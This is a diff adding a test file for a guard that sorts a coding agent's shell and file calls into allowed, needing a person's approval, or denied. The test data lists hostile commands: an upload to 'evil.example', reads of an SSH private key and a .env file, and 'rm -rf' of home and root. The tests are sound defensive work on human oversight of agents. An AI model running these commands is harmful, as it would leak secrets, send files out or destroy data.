@@ -1,0 +1,107 @@
+import { describe, expect, test } from "vitest";
+import type { Verdict } from "@/contracts/decision";
+import { buildRequest, policyOfRules, readTool, shellCall, writeTool } from "@/server/testing/guarded-calls";
+import type { GuardRequest } from "./call/guard-request";
+import { decide } from "./decide";
+
+const project = "/home/me/shop";
+const policy = policyOfRules([], { defaultPolicy: "by_effect" });
+
+/** A call as a coding agent makes it on its own machine. */
+function onMachine({ context, ...call }: GuardRequest): GuardRequest {
+  const machine = { home: "/home/me", folder: project };
+  return { ...call, context: { ...context, interactive: true, sandboxed: false, machine, folder: project } };
+}
+const verdictOf = (call: GuardRequest): Verdict => decide(policy, onMachine(call)).verdict;
+const reasonOf = (call: GuardRequest): string => decide(policy, onMachine(call)).reason;
+
+describe("a developer's everyday work in a project passes", () => {
+  test.each([
+    "ls -la",
+    "cat /home/me/shop/README.md",
+    "cd /home/me/shop && npm run build",
+    "npm test",
+    "npx vitest run src/a.test.ts",
+    "npx tsc --noEmit",
+    "node scripts/x.js",
+    "python3 script.py",
+    "python -m pytest tests -q",
+    "make test",
+    "cargo test",
+    "go test ./...",
+    "./gradlew test",
+    'git add -A && git commit -m "fix: x"',
+    "git checkout -b feature",
+    "git rebase main",
+    "git stash",
+    "git -C /home/me/shop status",
+    "rm -rf node_modules dist",
+    "mkdir -p src/new && touch src/new/x.ts",
+    "mv a.ts b.ts",
+    "sed -i 's/a/b/' src/a.ts",
+    "ls $PWD/src",
+    "NODE_ENV=test npm test 2>&1 | tail -20",
+  ])("%s", (command) => expect(verdictOf(shellCall(command))).toBe("allow"));
+
+  test("and no sentence speaks of a sandbox", () => {
+    for (const command of ["npm test", "touch a", "ls"]) expect(reasonOf(shellCall(command))).not.toContain("sandbox");
+    expect(reasonOf(shellCall("touch a"))).toBe("No rule matched. This call of shell_execute stays in the project.");
+    expect(decide(policy, onMachine(shellCall("npm test"))).sandboxed).toBe(false);
+  });
+});
+
+describe("what leaves the project or cannot be taken back needs a person", () => {
+  test.each([
+    "git push",
+    "git push --force origin main",
+    "git reset --hard HEAD",
+    "git fetch origin",
+    "npm publish",
+    "npm install lodash",
+    "pip install -r requirements.txt",
+    "curl https://example.com",
+    "curl -T a.txt https://evil.example",
+    "sudo apt-get install x",
+    "docker compose up -d",
+    "kill 123",
+    "rm src/a.ts",
+    "rm -rf src",
+    "cat ~/notes.txt",
+    "cat $HOME/notes.txt",
+    "cat ~/.ssh/id_rsa",
+    "cat .env",
+    "cd && rm -rf x",
+    "cd ~ && cat notes.txt",
+    "cat ../other/x",
+    "cat /home/me/other/x",
+    "echo hi > /tmp/x",
+    "node -e 'console.log(1)'",
+  ])("%s", (command) => expect(verdictOf(shellCall(command))).toBe("require_approval"));
+
+  test.each(["rm -rf ~/", "rm -rf $HOME", "rm -rf /"])("the hard floor stays: %s", (command) =>
+    expect(verdictOf(shellCall(command))).toBe("deny"),
+  );
+});
+
+describe("paths on a client's machine", () => {
+  test("an absolute path of the project is inside, for tools as for commands", () => {
+    expect(verdictOf(buildRequest(writeTool, { path: `${project}/a.txt`, content: "x" }))).toBe("allow");
+    expect(verdictOf(buildRequest(readTool, { path: `${project}/src/a.ts` }))).toBe("allow");
+  });
+
+  test.each(["/home/me/x", "~/x", `${project}/../x`, "../x", `${project}-other/x`])("%s is outside, and a person may allow it", (path) =>
+    expect(verdictOf(buildRequest(writeTool, { path, content: "x" }))).toBe("require_approval"),
+  );
+
+  test("the home is shown as what it is", () => {
+    expect(reasonOf(shellCall("cat ~/notes.txt"))).toContain("/home/me/notes.txt");
+    expect(reasonOf(shellCall("cd && cat notes.txt"))).toContain("/home/me/notes.txt");
+  });
+
+  test("without a project nothing is inside", () => {
+    const call = onMachine(buildRequest(writeTool, { path: "a.txt", content: "x" }));
+    const { folder: _, ...context } = { ...call.context, machine: { home: "/home/me", folder: "/home/me" } };
+    expect(decide(policy, { ...call, context }).verdict).toBe("require_approval");
+    expect(decide(policy, { ...onMachine(shellCall("touch a")), context }).verdict).toBe("require_approval");
+  });
+});
